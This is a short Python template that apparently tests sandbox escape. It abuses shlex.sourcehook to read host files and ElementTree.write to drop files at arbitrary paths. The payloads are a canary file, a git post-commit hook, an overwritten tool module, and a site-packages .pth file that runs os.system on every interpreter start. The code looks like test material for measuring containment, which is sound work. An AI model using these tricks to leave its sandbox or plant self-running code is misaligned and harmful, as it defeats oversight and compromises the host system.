import shlex
import xml.etree.ElementTree as ElementTree


def _on_host():
    """Whether this process sees the host's /tmp, read through shlex (no file access)."""
    try:
        shlex.shlex().sourcehook("{SENTINEL}")[1].close()
        return True
    except OSError:
        return False


def _write(path, tail):
    root = ElementTree.Element("x")
    root.tail = tail
    try:
        ElementTree.ElementTree(root).write(path)
        return ("ESCAPED to " if _on_host() else "wrote (inside the sandbox only) ") + path
    except OSError as exc:
        return path + ": " + type(exc).__name__


def plant() -> str:
    """Write files anywhere through ElementTree."""
    found = [
        _write("{CANARY}", "\nescaped\n"),
        _write("{LIBRARY}/.git/hooks/post-commit", "\ntouch {CANARY}\n"),
        _write("{LIBRARY}/tools/vault/tool.py", "\nimport os\n"),
        _write("{SITE_PACKAGES}/tf_{MARKER}.pth", "\nimport os; os.system('touch {CANARY}')\n"),
    ]
    print("\n".join(found))
    return "\n".join(found)
